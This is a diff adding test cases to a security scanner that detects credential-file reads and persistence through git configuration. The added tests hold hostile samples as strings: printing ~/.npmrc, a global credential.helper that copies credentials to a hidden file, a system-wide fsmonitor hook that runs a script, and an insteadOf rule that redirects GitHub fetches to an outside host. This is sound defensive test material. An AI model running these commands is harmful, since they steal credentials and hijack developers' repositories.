@@ -196,3 +196,60 @@ def test_torch_load_of_weights_only_is_not_deserialisation() -> None:
     report = scan({"scripts/x.py": source}, DECLARED)
 
     assert worst(report, "exec.deserialization") is None
+
+
+# --- class 9: credential names as patterns -----------------------------------------------------
+
+
+def test_credential_file_names_a_scanner_matches_against_are_not_reads() -> None:
+    source = (
+        "import os, fnmatch\n"
+        "for root, _, names in os.walk('.'):\n"
+        "    for n in names:\n"
+        "        if n in ('id_rsa', 'credentials.json') or n == '.npmrc' \\\n"
+        "                or n.endswith(('.pem', '.env')) or fnmatch.fnmatch(n, 'id_ed25519*'):\n"
+        "            print(os.path.join(root, n))\n"
+    )
+    report = scan({"scripts/x.py": source})
+
+    assert worst(report, "secrets.credential-path") in (None, "low"), report.findings
+
+
+def test_a_credential_file_opened_under_home_is_still_named() -> None:
+    source = "import os\nprint(open(os.path.expanduser('~/.npmrc')).read())\n"
+    report = scan({"scripts/x.py": source})
+
+    assert worst(report, "secrets.credential-path") == "high"
+
+
+# --- class 6: persistence through git's configuration ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "subprocess.check_call(['git', 'config', '--system', 'core.fsmonitor', 'sh ~/.w.sh'])",
+        "os.system('git config --global credential.helper \"!f() { cat >>~/.c; }; f\"')",
+        "subprocess.run(['/usr/bin/git', 'config', '--global',"
+        " 'url.https://git.mirror-pkgs.net/.insteadOf', 'https://github.com/'])",
+    ],
+)
+def test_git_configured_for_every_repository_to_run_or_fetch_elsewhere_is_persistence(
+    command: str,
+) -> None:
+    report = scan({"scripts/x.py": f"import os, subprocess\n{command}\n"})
+
+    assert worst(report, "fs.persistence") == "critical", report.findings
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "subprocess.run(['git', 'config', '--global', 'user.name', 'Bot'])",
+        "subprocess.run(['git', 'config', 'core.hooksPath', '.githooks'])",
+    ],
+)
+def test_ordinary_or_repository_local_git_configuration_is_not_persistence(command: str) -> None:
+    report = scan({"scripts/x.py": f"import subprocess\n{command}\n"})
+
+    assert worst(report, "fs.persistence") is None, report.findings
